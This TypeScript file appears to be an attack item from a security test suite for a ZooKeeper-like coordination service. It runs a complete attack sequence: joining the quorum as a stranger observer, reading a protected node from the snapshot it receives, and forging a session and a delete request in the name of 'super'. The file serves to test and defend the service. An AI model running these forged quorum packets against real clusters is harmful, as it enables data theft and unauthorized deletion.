/** A stranger who joins as an observer, reads what is protected, and asks for what only a superuser may. */
import type { Socket } from 'node:net'
import { ANYONE, permission } from '../../../../service/acl.js'
import { errorCode } from '../../../../service/error.js'
import { packetType } from '../../../../wire/quorum.js'
import { Writer } from '../../../../wire/writer.js'
import type { Item } from '../item.js'
import { openSocket } from '../raw-client.js'
import { attackedClient, found, hold } from '../tools.js'
import { introduction } from './peers.js'

const SECRET = 'what-only-its-owner-may-read'
const PARENT = '/protected'
const PROTECTED = `${PARENT}/secret`
/** user:base64(SHA-1(user:password)): whoever sets it needs no right. */
const OWNER = 'bob:fyVmFCwVbTJYrznoSu1koqYEYF0='
const DELETE = 2
const CREATE_SESSION = -10
const SESSION = 0x4d00_0000_0000_0001n
const STRANGER = 77

const packet = (type: number, epoch: number, data: Uint8Array | undefined): Uint8Array => {
  const writer = new Writer(64)
  writer.int(type)
  writer.zxid({ epoch, counter: 0 })
  writer.buffer(data ?? null)
  writer.count(-1)
  return writer.written()
}

/** Nothing is known of its history: an image is sent, or all that was written. */
const acknowledgeEpoch = (): Uint8Array => packet(packetType.ACKEPOCH, 0, new Uint8Array([255, 255, 255, 255]))

/** As a learner hands on what a client asks for; `isSuper`: in the name of one who may do everything. */
const forwarded = (cxid: number, opcode: number, isSuper: boolean, body: (writer: Writer) => void): Uint8Array => {
  const writer = new Writer(256)
  writer.int(packetType.REQUEST)
  writer.long(-1n)
  const start = writer.beginFrame()
  writer.long(SESSION)
  writer.int(cxid)
  writer.int(opcode)
  body(writer)
  writer.endFrame(start)
  writer.count(isSuper ? 1 : -1)
  if (isSuper) {
    writer.string('super')
    writer.string('')
  }
  return writer.written()
}

const forgedSession = (): Uint8Array => forwarded(0, CREATE_SESSION, false, (writer) => writer.int(40_000))

const forgedDelete = (): Uint8Array =>
  forwarded(1, DELETE, true, (writer) => {
    writer.string(PROTECTED)
    writer.int(-1)
  })

const isHeard = async (until: () => boolean, pause: () => Promise<void>): Promise<boolean> => {
  for (let turn = 0; turn < 50 && !until(); turn += 1) await pause()
  return until()
}

const write = (socket: Socket, bytes: Uint8Array): Promise<unknown> =>
  new Promise((resolve) => socket.write(bytes, resolve))

export const strangerObserver: Item = {
  name: 'stranger-observer',
  does: 'A stranger joins as an observer, looks for protected data in what it is sent, and sends a delete as `super`.',
  after: 'issue 10 §3: the image held protected data, and the node was deleted',
  isQuick: true,
  afterwards: 'nothing',
  attack: async (arena) => {
    const owner = await attackedClient(arena)
    // Whoever deletes a node needs a right on its parent, which nobody has here.
    const parentAcl = [{ permissions: permission.CREATE | permission.READ, id: ANYONE }]
    await owner.call({ op: 'create', path: PARENT, data: null, acl: parentAcl, flags: 0 }, arena.signal)
    const acl = [{ permissions: permission.ALL, id: { scheme: 'digest', id: OWNER } }]
    const data = Buffer.from(SECRET)
    const made = await owner.call({ op: 'create', path: PROTECTED, data, acl, flags: 0 }, arena.signal)
    if (made !== 0) throw new Error(`the protected node could not be made: ${made ?? 'no answer'}`)
    const socket = await openSocket(arena.attacked.quorum)
    let heard = Buffer.alloc(0)
    if (socket !== undefined) {
      socket.on('data', (chunk: Buffer) => {
        heard = Buffer.concat([heard, chunk]).subarray(0, 4_000_000)
      })
      const pause = (): Promise<void> => hold(arena, 100)
      await write(socket, introduction('OBSERVERINFO', STRANGER, 0))
      await isHeard(() => heard.length >= 12, pause)
      const epoch = heard.length >= 12 ? heard.readInt32BE(4) : 0
      await write(socket, acknowledgeEpoch())
      await isHeard(() => heard.includes(SECRET), pause)
      await write(socket, packet(packetType.ACK, epoch, undefined))
      await hold(arena, 1000)
      await write(socket, packet(packetType.ACK, epoch, undefined))
      await write(socket, forgedSession())
      await hold(arena, 500)
      await write(socket, forgedDelete())
      await hold(arena, 2000)
      socket.destroy()
    }
    const there = await owner.call({ op: 'exists', path: PROTECTED, watch: false }, arena.signal)
    owner.leave()
    return found(`${heard.length} bytes were sent to the stranger`, SECRET.length, [
      {
        aim: 'a stranger is not sent protected data',
        held: !heard.includes(SECRET),
        seen: heard.includes(SECRET) ? 'it was' : 'it was not',
      },
      {
        aim: 'a stranger deletes nothing as super',
        held: there === errorCode.OK || there === errorCode.NOAUTH,
        seen: `exists answers ${there ?? 'nothing'}`,
      },
    ])
  },
}
